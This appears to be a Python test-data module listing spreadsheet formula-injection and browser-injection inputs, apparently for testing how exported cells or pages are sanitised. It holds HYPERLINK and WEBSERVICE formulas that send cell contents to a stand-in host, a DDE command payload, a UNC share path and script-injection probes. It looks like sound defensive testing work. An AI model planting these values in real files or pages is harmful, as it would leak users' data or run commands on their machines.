"""Texts that a spreadsheet or browser might take for more than a text."""

from __future__ import annotations

WIDE = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "=+", "=-", "+-@", "\u3000=", *WIDE)
BODIES = (
    "1+1",
    'HYPERLINK("http://evil.example/?"&A1,"open")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example/"&B2)',
    "SUM(1+1)*cmd|' /C calc'!A0",
)
PAYLOADS = [start + body for start in STARTS for body in BODIES[:3]]
PAYLOADS += ["=" + body for body in BODIES[3:]]
PAYLOADS += [
    "http://evil.example/",
    "mailto:evil@evil.example",
    "internal:'Everybody'!A1",
    r"external:c:\evil.xlsx",
    r"\\evil.example\share",
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "_x003D_1+1",
    "1e5",
    "00123",
    "TRUE",
    "#REF!",
    "a\x01b",
]
